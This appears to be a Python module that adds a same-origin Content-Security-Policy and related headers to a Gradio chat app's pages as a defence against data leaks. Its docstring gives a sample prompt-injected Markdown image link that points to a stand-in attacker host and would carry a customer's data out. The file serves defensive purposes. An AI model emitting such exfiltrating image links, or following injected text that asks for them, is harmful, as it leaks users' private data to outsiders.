"""Browser-side safety for every page Callcard serves: a Content-Security-Policy that lets the page load nothing from
another host.

Model and tool text is made inert before it reaches the chat (ui/safe_text.py); this is the second line of defence:
even if some Markdown slipped through as an image, the browser would refuse to fetch it, so a prompt-injected
`![x](https://evil.example/?leak=...)` cannot carry a customer's data away. Scripts stay same-origin too; Gradio's
own page needs inline scripts and `Function` (its HTML templates), hence 'unsafe-inline' and 'unsafe-eval'.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable, MutableMapping
from typing import Any

__all__ = ["CONTENT_SECURITY_POLICY", "SecurityHeaders"]

CONTENT_SECURITY_POLICY = "; ".join([
    "default-src 'self'",
    "script-src 'self' 'unsafe-inline' 'unsafe-eval'",
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "media-src 'self' data: blob:",
    "font-src 'self' data:",
    "connect-src 'self'",
    "frame-src 'self' blob:",
    "worker-src 'self' blob:",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
])

_HEADERS = [
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    (b"referrer-policy", b"no-referrer"),
    (b"x-content-type-options", b"nosniff"),
]

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]


# Event streams and queue calls carry data, not documents: they pass untouched, which keeps the wrapper off the path
# of every streamed token (50 chats at once send thousands of such messages a second).
_DATA_PATHS = ("/gradio_api/queue/", "/gradio_api/heartbeat/")


class SecurityHeaders:
    """ASGI middleware adding the policy and two companion headers to every HTTP response but data streams."""

    def __init__(self, app: Callable[[Scope, Receive, Send], Awaitable[None]]) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http" or scope.get("path", "").startswith(_DATA_PATHS):
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                names = {name.lower() for name, _ in message.get("headers", [])}
                message["headers"] = [*message.get("headers", []), *(h for h in _HEADERS if h[0] not in names)]
            await send(message)

        await self.app(scope, receive, send_with_headers)
